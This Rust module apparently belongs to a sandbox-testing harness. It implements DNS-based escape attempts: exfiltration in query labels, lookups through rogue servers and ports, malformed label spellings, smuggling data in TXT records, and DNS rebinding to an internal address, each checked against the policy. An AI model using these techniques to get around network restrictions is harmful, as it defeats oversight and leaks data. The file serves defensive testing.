//! DNS as a way out, and as a way to make one name mean another address.

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::time::Duration;

use super::{at, reach, sockaddr};
use crate::attempt::Setting::Network;
use crate::attempt::{Attempt, Stop, Verdict, attempt};
use crate::call::{Step, blocked, inconclusive, read, sys};
use crate::stage;
use crate::world::{FORBIDDEN, FRONTED, INTERNAL, NAME_SERVER, OTHER_PORT};

pub(super) const ATTEMPTS: &[Attempt] = &[
    attempt!(egress_dns_name, "resolve a name that the policy lacks").with(Network),
    attempt!(egress_dns_stream, "resolve it by DNS over TCP").with(Network),
    attempt!(
        egress_dns_other_server,
        "resolve it by a name server of one's own"
    )
    .with(Network),
    attempt!(egress_dns_other_port, "resolve it on another port").with(Network),
    attempt!(egress_dns_labels, "carry data out in the labels of names").with(Network),
    attempt!(
        egress_dns_labels_allowed,
        "carry data out in labels below an allowed name"
    )
    .with(Network),
    attempt!(egress_dns_spellings, "hide a forbidden name in odd labels").with(Network),
    attempt!(
        egress_dns_records,
        "receive data in other records of an allowed name"
    )
    .with(Network),
    attempt!(egress_dns_two_questions, "ask two questions in one query").with(Network),
    attempt!(
        egress_rebinding,
        "resolve an allowed name to an internal address and connect"
    )
    .with(Network),
];

pub(super) const A: u16 = 1;
const TXT: u16 = 16;

/// A query (RFC 1035, section 4.1) with one question for each name.
fn query(names: &[&str], kind: u16) -> Vec<u8> {
    let mut bytes = vec![0x12, 0x34, 1, 0, 0, names.len() as u8, 0, 0, 0, 0, 0, 0];
    for name in names {
        for label in name.split('.') {
            bytes.push(label.len() as u8);
            bytes.extend(label.as_bytes());
        }
        bytes.push(0);
        bytes.extend(kind.to_be_bytes());
        bytes.extend([0, 1]);
    }
    bytes
}

fn heard(answer: &[u8]) -> Result<Vec<u8>, Stop> {
    match answer {
        [_, _, _, flags, _, _, high, low, ..] if flags & 15 == 0 && (high | low) != 0 => {
            Ok(answer.to_vec())
        }
        [_, _, _, flags, ..] => blocked(format!("the answer is empty, code {}", flags & 15)),
        _ => blocked("no answer"),
    }
}

/// Asks over UDP; the answer, if there is a record in it.
fn ask(server: SocketAddr, query: &[u8]) -> Result<Vec<u8>, Stop> {
    let socket = UdpSocket::bind("0.0.0.0:0").prepare("bind")?;
    socket
        .set_read_timeout(Some(Duration::from_secs(1)))
        .prepare("SO_RCVTIMEO")?;
    socket.connect(server).attack("connect")?;
    socket.send(query).attack("send")?;
    let mut answer = [0; 4096];
    let length = socket.recv(&mut answer).attack("recv")?;
    heard(&answer[..length])
}

/// Asks the name server from a socket that there is already; the answer must be one.
pub(super) fn ask_from(fd: i32, name: &str, kind: u16) -> Result<(), Stop> {
    let (address, length) = sockaddr(SocketAddr::new(NAME_SERVER.into(), 53));
    let query = query(&[name], kind);
    sys!(libc::sendto(
        fd,
        query.as_ptr().cast(),
        query.len(),
        0,
        std::ptr::from_ref(&address).cast(),
        length
    ))
    .prepare("sendto")?;
    let answer = read(fd).prepare("recv")?;
    match heard(&answer) {
        Ok(_) => Ok(()),
        Err(Stop::Blocked(why)) => inconclusive(why),
        Err(stop) => Err(stop),
    }
}

fn server(address: Ipv4Addr) -> SocketAddr {
    SocketAddr::new(address.into(), 53)
}

/// An answer that has this address in it, or tells which.
fn gives(answer: &[u8], address: Ipv4Addr) -> Verdict {
    if answer.windows(4).any(|bytes| bytes == address.octets()) {
        return Ok(format!("the name is {address}"));
    }
    blocked("an answer without the address")
}

fn resolves(name: &str) -> Verdict {
    gives(&ask(server(NAME_SERVER), &query(&[name], A))?, FORBIDDEN)
}

/// What resolves tells what there is.
fn egress_dns_name() -> Verdict {
    resolves(FRONTED)
}

/// RFC 7766.
fn egress_dns_stream() -> Verdict {
    let mut stream = TcpStream::connect(server(NAME_SERVER)).attack("connect")?;
    stream
        .set_read_timeout(Some(Duration::from_secs(1)))
        .prepare("SO_RCVTIMEO")?;
    let query = query(&[FRONTED], A);
    let framed = [&(query.len() as u16).to_be_bytes()[..], &query].concat();
    stream.write_all(&framed).attack("write")?;
    let mut length = [0; 2];
    stream.read_exact(&mut length).attack("read")?;
    let mut answer = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut answer).attack("read")?;
    gives(&heard(&answer)?, FORBIDDEN)
}

fn egress_dns_other_server() -> Verdict {
    gives(&ask(server(FORBIDDEN), &query(&[FRONTED], A))?, FORBIDDEN)
}

fn egress_dns_other_port() -> Verdict {
    let server = SocketAddr::new(FORBIDDEN.into(), OTHER_PORT);
    gives(&ask(server, &query(&[FRONTED], A))?, FORBIDDEN)
}

/// Whoever owns a domain reads what is asked for below it.
fn egress_dns_labels() -> Verdict {
    let stolen = format!("leak-{}.{}.{FRONTED}", "5".repeat(40), "e".repeat(60));
    let _ = ask(server(NAME_SERVER), &query(&[&stolen], A));
    stage::received("dns-leak")
}

/// An allowed name is that name, and none below it.
fn egress_dns_labels_allowed() -> Verdict {
    let stolen = format!("leak-{}.permitted.test", "5".repeat(50));
    let _ = ask(server(NAME_SERVER), &query(&[&stolen], A));
    stage::received("dns-leak")
}

/// RFC 4343: bytes that are no letters are compared as they are, and some programs cut at them.
fn egress_dns_spellings() -> Verdict {
    let names = [
        "leak\0.permitted.test",
        "leak permitted.test",
        "PERMITTED.TEST\0.leak",
        "leak\\.permitted.test",
        "leak..permitted.test",
        "xn--leak.permitted.test",
    ];
    for name in names {
        let mut query = query(&[name], A);
        // A label with a dot in it.
        if let Some(at) = query.windows(2).position(|pair| pair == b"\\.") {
            query[at] = b'.';
        }
        let _ = ask(server(NAME_SERVER), &query);
    }
    stage::received("dns-leak")
}

/// Records that carry text. The harness has the token in the one of every name.
fn egress_dns_records() -> Verdict {
    let mut last = String::new();
    for name in ["permitted.test", FRONTED] {
        match ask(server(NAME_SERVER), &query(&[name], TXT)) {
            Ok(answer) => match stage::reveals(&answer, "a TXT record") {
                Err(Stop::Blocked(why)) => last = why,
                verdict => return verdict,
            },
            Err(Stop::Blocked(why)) => last = why,
            Err(stop) => return Err(stop),
        }
    }
    blocked(last)
}

/// The first is looked at, the second is answered.
fn egress_dns_two_questions() -> Verdict {
    let query = query(&["permitted.test", "leak.forbidden.test"], A);
    let _ = ask(server(NAME_SERVER), &query);
    stage::received("dns-leak")
}

/// The name is allowed; that its owner lets it lead inside is another matter.
fn egress_rebinding() -> Verdict {
    let answer = ask(server(NAME_SERVER), &query(&["inner.wild.test"], A))?;
    let Some(address) = answer.len().checked_sub(4).map(|at| &answer[at..]) else {
        return inconclusive("a short answer");
    };
    let address = Ipv4Addr::new(address[0], address[1], address[2], address[3]);
    if address != INTERNAL {
        // The last record may be another one: it's tried even so.
        return reach(at(INTERNAL));
    }
    let stream = TcpStream::connect(at(IpAddr::from(address))).attack("connect")?;
    crate::sockets::greeting(stream.as_raw_fd(), "a rebound name")
}
